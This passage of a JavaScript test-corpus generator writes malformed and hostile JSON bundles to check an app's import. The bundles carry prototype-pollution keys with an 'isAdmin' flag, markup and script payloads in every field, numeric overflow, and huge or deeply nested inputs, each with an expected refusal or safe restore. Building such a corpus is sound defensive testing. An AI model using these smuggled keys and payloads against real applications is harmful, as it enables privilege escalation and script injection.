add({ file: 'bundles/wrong-type.json', kind: 'bundle', about: 'JSON of another app', expect: { refused: 'wrongType' }, content: () => json({ type: 'excalidraw', version: 2, elements: [] }) });
add({
  file: 'bundles/future-schema-version.json',
  kind: 'bundle',
  about: 'schemaVersion 99 from a newer app',
  expect: { refused: 'futureVersion' },
  content: () => json(envelope(validData, { schemaVersion: 99, appVersion: '9.0.0' })),
});
add({
  file: 'bundles/nan-literal.json',
  kind: 'bundle',
  about: 'NaN and Infinity as bare tokens (not JSON)',
  expect: { refused: 'notJson' },
  content: () => json(envelope(validData)).replace('"volume": 120', '"volume": NaN').replace('"minutesPerCase": 15', '"minutesPerCase": -Infinity'),
});
add({
  file: 'bundles/negative-and-overflowing-numbers.json',
  kind: 'bundle',
  about: 'negative counts and times, 1e999 (parses to Infinity), -0, NaN as a string, a revision of -3',
  expect: { restored: { repairs: true } },
  content: () => {
    const bad = assessment(proc.id, 'Task_1', {
      answers: { R: -1, Id: 3, Mb: -2, Ap: 0 },
      quantities: { volume: -120, period: 'monthly', minutesPerCase: 'NaN', errorRate: 7, reworkMinutes: -0 },
      revision: -3,
    });
    return json(envelope({ ...validData, assessments: [bad] })).replace('"reworkMinutes": 0', '"reworkMinutes": 1e999');
  },
});
add({
  file: 'bundles/proto-keys.json',
  kind: 'bundle',
  about: '__proto__ keys in the envelope, the data, a record and its answers',
  expect: { restored: { noPollution: true } },
  content: () => {
    const polluted = '{"polluted":"ja","isAdmin":true}';
    return json(envelope(validData))
      .replace('{\n "type"', `{\n "__proto__": ${polluted},\n "type"`)
      .replace('"data": {', `"data": {\n  "__proto__": ${polluted},`)
      .replace('"answers": {', `"answers": {\n    "__proto__": ${polluted},`)
      .replace('"code": "Amt 33"', `"code": "Amt 33",\n   "__proto__": ${polluted}`);
  },
});
add({
  file: 'bundles/constructor-prototype-keys.json',
  kind: 'bundle',
  about: 'constructor.prototype keys on records and the catalogue',
  expect: { restored: { noPollution: true } },
  content: () =>
    json(envelope(validData))
      .replace('"data": {', '"data": {\n  "constructor": {"prototype": {"polluted": "ja"}},')
      .replace('"lotse": ', '"constructor": {"prototype": {"polluted": "ja"}}, "prototype": {"polluted": "ja"}, "lotse": '),
});
add({
  file: 'bundles/prototype-ids.json',
  kind: 'bundle',
  about: 'process, department and step ids __proto__, constructor, prototype',
  expect: { restored: {} },
  content: () => {
    const department_ = department(1, { id: 'constructor', name: 'Amt constructor' });
    const process_ = processRecord(2, 'constructor', { id: '__proto__', name: 'Prozess __proto__', diagramXml: richDiagram(plain, { ids: { Task_1: '__proto__', Task_2: 'constructor', Sub_1: 'prototype' } }) });
    return json(
      envelope({
        departments: [department_],
        processes: [process_],
        assessments: ['__proto__', 'constructor', 'prototype'].map((stepId) => assessment('__proto__', stepId)),
      }),
    );
  },
});
add({
  file: 'bundles/html-in-every-field.json',
  kind: 'bundle',
  about: 'markup and script in department, process, lotse, description, participants, notes and the diagram',
  expect: { restored: { texts: [`Amt ${payload(0)}`, `Prozess ${payload(1)}`] } },
  content: () => {
    const department_ = department(11, { name: `Amt ${payload(0)}`, code: payload(6) });
    const process_ = processRecord(12, department_.id, {
      name: `Prozess ${payload(1)}`,
      lotse: payload(2),
      description: payload(3),
      participants: payload(4),
      workshopDate: payload(5),
      diagramXml: richDiagram(hostileText(escapeXml)),
    });
    return json(
      envelope({
        departments: [department_],
        processes: [process_],
        assessments: [assessment(process_.id, 'Task_1', { notes: payload(7), lastKnownName: payload(8) })],
      }),
    );
  },
});
add({
  file: 'bundles/wrong-field-types.json',
  kind: 'bundle',
  about: 'records as strings, a process list as an object, ids as numbers',
  expect: { refused: 'invalid' },
  content: () => json(envelope({ departments: 'Bürgeramt', processes: { 0: proc }, assessments: [{ processId: 5, stepId: null }] })),
});
add({
  file: 'generated/bundle-huge-strings.json',
  kind: 'bundle',
  generated: true,
  about: 'a process name of 1 million characters (2 MB), a 10 MB note and 1,000 single-character departments',
  expect: { restored: {} },
  content: () => {
    const departments = Array.from({ length: 1_000 }, (_, index) => department(10_000 + index, { name: String.fromCharCode(0x4e00 + index) }));
    const process_ = processRecord(3, departments[0].id, { name: `${'Ü'.repeat(1024 * 1024 - 1)}€` });
    return json(envelope({ departments, processes: [process_], assessments: [assessment(process_.id, 'Task_1', { notes: '€ü'.repeat(2 * 1024 * 1024) })] }));
  },
});
add({
  file: 'generated/bundle-deeply-nested.json',
  kind: 'bundle',
  generated: true,
  about: '100,000 nested arrays under a key the app does not know: parsed without a stack overflow, the key dropped',
  expect: { restored: {} },
  content: () => json(envelope(validData)).replace('"meta": {}', `"meta": {"deep": ${'['.repeat(100_000)}${']'.repeat(100_000)}}`),
});
add({
  file: 'generated/bundle-10000-records.json',
  kind: 'bundle',
  generated: true,
  about: '10,000 records (20 departments, 400 processes, 9,580 assessments) with umlauts and € in every text',
  expect: { restored: { records: 10_000 } },
  content: () => {
    const departments = Array.from({ length: 20 }, (_, index) => department(100 + index, { name: `Amt für Straßenbau und Grünflächen Nr. ${index} – Größe €` }));
    const processes = Array.from({ length: 400 }, (_, index) =>
      processRecord(1_000 + index, departments[index % 20].id, {
        name: `Überprüfung der Gebühr ${index} €`,
        lotse: 'Jürgen Weiß',
        description: 'Äußerst häufiger Vorgang: Gebühren über 1.000 € prüfen, Bescheid ausstellen.',
        diagramXml: minimalProcess(`Prozess ${index} – Öffnung`, 'Prüfen'),
      }),
    );
    const assessments = [];
    for (let index = 0; assessments.length < 9_580; index++) {
      assessments.push(assessment(processes[index % 400].id, `Task_${Math.floor(index / 400)}`, { notes: `Notiz ${index}: Maßnahme kostet 12,50 € – übermäßig häufig.` }));
    }
    return json(envelope({ departments, processes, assessments }));
  },
});

// ---------------------------------------------------------------------------------------------

function write(entry) {
  const path = join(root, entry.file);
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, entry.content());
}

const onlyGenerated = process.argv.includes('--generated');
if (onlyGenerated) {
  for (const entry of corpus.filter((candidate) => candidate.generated)) write(entry);
} else {
  for (const entry of corpus.filter((candidate) => !candidate.generated)) write(entry);
  const manifest = {
    about: 'Written by scripts/make-hostile-corpus.mjs; files under generated/ are made at test time (--generated).',
    pwnedFlag,
    files: corpus.map(({ file, kind, about, expect, generated }) => ({ file, kind, about, expect, ...(generated ? { generated: true } : {}) })),
  };
  writeFileSync(join(root, 'manifest.json'), `${JSON.stringify(manifest, null, 2)}\n`);
  writeFileSync(join(root, '.gitignore'), 'generated/\n');
}
